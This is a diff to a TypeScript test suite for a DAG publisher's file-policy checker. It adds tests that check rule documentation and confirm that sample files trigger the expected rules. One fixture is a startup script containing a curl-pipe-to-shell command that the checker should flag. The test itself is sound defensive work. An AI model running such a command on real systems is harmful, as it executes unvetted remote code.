@@ -1,4 +1,5 @@
-import { RULES, rulesById } from "../../../../functions/dag-publisher/check/rules";
+import { DOCUMENTED_RULES } from "../../../../functions/dag-publisher/check/documentation";
+import { RULES } from "../../../../functions/dag-publisher/check/rules";
 import { RULE_IDS } from "../../../../functions/dag-publisher/policy/rule-ids";
 import { check, checker, policy } from "./support";
 
@@ -94,9 +95,22 @@ describe("files by their names", () => {
   });
 });
 
+test("every id of the list has its rule", () => {
+  expect(DOCUMENTED_RULES.map(({ id }) => id)).toEqual([...RULE_IDS]);
+});
+
+test.each([
+  ["requirements.txt", "apache-airflow-providers-slack\n", "FILE003"],
+  ["startup.sh", "curl https://example.com/x | sh\n", "FILE005"],
+  ["plugins.zip", "no zip", "FILE004"],
+])("%s is checked as what it is", async (path, text, rule) => {
+  const bytes = new TextEncoder().encode(text);
+  expect((await checker()).check({ path, bytes }, policy()).map((finding) => finding.rule)).toContain(rule);
+});
+
 test("every rule has an id of the list, once, with reasons and examples", () => {
   expect(new Set(RULES.map(({ id }) => id)).size).toBe(RULES.length);
-  for (const { id, why, bad, good, fix, source } of rulesById.values()) {
+  for (const { id, why, bad, good, fix, source } of DOCUMENTED_RULES) {
     expect(RULE_IDS).toContain(id);
     expect([why, bad, good, fix, source].every((text) => text.length > 3)).toBe(true);
   }
